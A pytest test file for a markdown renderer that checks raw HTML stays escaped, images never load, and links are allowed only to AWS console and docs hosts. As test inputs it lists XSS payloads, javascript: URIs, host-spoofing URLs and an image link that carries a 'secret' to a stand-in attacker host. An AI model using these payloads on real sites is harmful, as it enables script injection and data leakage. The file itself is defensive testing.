import pytest

from agent.settings import AWS_LINK_HOSTS
from api.pages.markdown import is_allowed_link, render_markdown


def render(text: str) -> str:
    return render_markdown(text, link_hosts=AWS_LINK_HOSTS)


def test_markup_of_markdown_is_rendered():
    html = render("# Why\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<x>\n```")
    assert "<h1>Why</h1>" in html
    assert "<td>1</td>" in html
    assert "&lt;x&gt;" in html


@pytest.mark.parametrize(
    "attack", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a <b onclick=x>b</b>"]
)
def test_raw_html_stays_text(attack: str):
    assert attack.partition("<")[2].partition(" ")[0].partition(">")[0] in render(attack)
    assert "<" + attack.partition("<")[2][:3] not in render(attack)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "![x](https://console.aws.amazon.com/x.png)",
        "![x][1]\n\n[1]: https://evil.example/x.png",
        "[![x](https://evil.example/x.png)](https://docs.aws.amazon.com/)",
    ],
)
def test_an_image_is_never_loaded(text: str):
    assert "<img" not in render(text)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/",
        "http://docs.aws.amazon.com/",
        "https://docs.aws.amazon.com.evil.example/",
        "https://evil.example@docs.aws.amazon.com/",
        "https://docs.aws.amazon.com:8443/",
        "https://docs.aws.amazon.com\\@evil.example/",
        "https://xconsole.aws.amazon.com/",
        "//evil.example/",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "https://[",
    ],
)
def test_a_link_to_a_stranger_stays_text(url: str):
    assert not is_allowed_link(url, AWS_LINK_HOSTS)
    assert "href" not in render(f"[x]({url}) <{url}>")


@pytest.mark.parametrize(
    "url",
    [
        "https://eu-west-1.console.aws.amazon.com/ecs/v2/clusters?region=eu-west-1",
        "https://docs.aws.amazon.com/x",
        "/tickets/1",
    ],
)
def test_a_link_to_the_console_the_docs_or_ourselves_is_one(url: str):
    assert f'<a href="{url}" rel="noopener noreferrer nofollow">' in render(f"[x]({url})")
